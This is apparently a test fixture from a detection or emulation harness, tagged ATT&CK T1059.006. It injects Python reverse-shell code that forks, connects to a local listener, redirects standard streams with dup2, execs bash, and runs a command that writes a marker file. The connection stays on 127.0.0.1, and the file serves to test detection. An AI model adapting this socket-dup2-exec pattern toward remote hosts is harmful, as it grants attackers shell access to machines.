# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1059.006
about="a reverse shell: socket, dup2, exec of bash"
attack() {
	inject '
import threading
listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen()
pid = os.fork()
if pid == 0:
    back = socket.create_connection(listener.getsockname())
    for fd in 0, 1, 2:
        os.dup2(back.fileno(), fd)
    os.execv("/bin/bash", ["bash"])
listener.settimeout(5)
victim, _ = listener.accept()
victim.sendall(b"echo > /var/tmp/fidelity/marker/was-here; exit\n")
os.waitpid(pid, 0)
'
}
effect() { [ -e "$marker" ]; }
